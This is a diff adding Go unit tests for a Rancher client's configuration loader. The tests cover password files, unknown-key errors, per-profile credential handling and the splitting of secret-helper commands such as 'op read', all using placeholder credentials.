+	path := filepath.Join(t.TempDir(), "password")
+	if err := os.WriteFile(path, []byte("hunter2\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("RANCHER_PROD_PASSWORD", "")
+	t.Setenv("RANCHER_PROD_PASSWORD_FILE", path)
+	if cfg := LoadInstance(&Config{}, "prod"); cfg.Password != "hunter2" {
+		t.Errorf("Password = %q", cfg.Password)
+	}
+
+	t.Setenv("RANCHER_CONFIG_PASSPHRASE", "")
+	t.Setenv("RANCHER_CONFIG_PASSPHRASE_FILE", path)
+	if value, err := SecretEnv("RANCHER_CONFIG_PASSPHRASE"); err != nil || value != "hunter2" {
+		t.Errorf("SecretEnv() = %q, %v", value, err)
+	}
+}
+
+func TestLoadFile_UnknownKey(t *testing.T) {
+	path := filepath.Join(t.TempDir(), FileName)
+	if err := os.WriteFile(path, []byte("url: https://rancher.example.com\nprefx: typo\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFile(path); err == nil {
+		t.Error("expected an error for an unknown key")
+	}
+}
+
+func TestFile_ApplyProfile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), FileName)
+	data := `prefix: shared-
+auth:
+  token: token-top:secret
+profiles:
+  prod-rancher:
+    url: https://prod.example.com
+    auth:
+      username: admin
+      password: pw
+  lab-rancher:
+    url: https://lab.example.com
+    prefix: lab-
+`
+	if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+		t.Fatal(err)
+	}
+	file, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("LoadFile() error = %v", err)
+	}
+	for _, key := range []string{"RANCHER_URL", "RANCHER_TOKEN", "RANCHER_USERNAME", "RANCHER_PASSWORD", "RANCHER_CLUSTER_PREFIX"} {
+		t.Setenv(key, "")
+	}
+
+	prod := LoadFromEnv()
+	file.Apply(prod, "prod-rancher")
+	if prod.RancherURL != "https://prod.example.com" || prod.ClusterPrefix != "shared-" {
+		t.Errorf("prod URL and prefix = %q, %q", prod.RancherURL, prod.ClusterPrefix)
+	}
+	if prod.Token != "" || prod.Username != "admin" {
+		t.Errorf("prod token and username = %q, %q; want the profile's credentials only", prod.Token, prod.Username)
+	}
+
+	lab := LoadFromEnv()
+	file.Apply(lab, "lab-rancher")
+	if lab.RancherURL != "https://lab.example.com" || lab.ClusterPrefix != "lab-" || lab.Token != "token-top:secret" {
+		t.Errorf("lab URL, prefix and token = %q, %q, %q", lab.RancherURL, lab.ClusterPrefix, lab.Token)
+	}
+
+	if err := file.CheckProfile("lab-rancher"); err != nil {
+		t.Errorf("CheckProfile(lab-rancher) error = %v", err)
+	}
+	if err := file.CheckProfile("staging"); err == nil {
+		t.Error("expected an error for an undefined profile")
+	}
+}
+
+func TestSplitCommand(t *testing.T) {
+	tests := []struct {
+		value string
+		want  []string
+	}{
+		{"op read op://infra/rancher/token", []string{"op", "read", "op://infra/rancher/token"}},
+		{`["pass", "show", "rancher token"]`, []string{"pass", "show", "rancher token"}},
+		{"  ", nil},
+		{"[not json", []string{"[not", "json"}},
+	}
+	for _, tt := range tests {
+		if got := SplitCommand(tt.value); !slices.Equal(got, tt.want) {
+			t.Errorf("SplitCommand(%q) = %q, want %q", tt.value, got, tt.want)
+		}
+	}
+}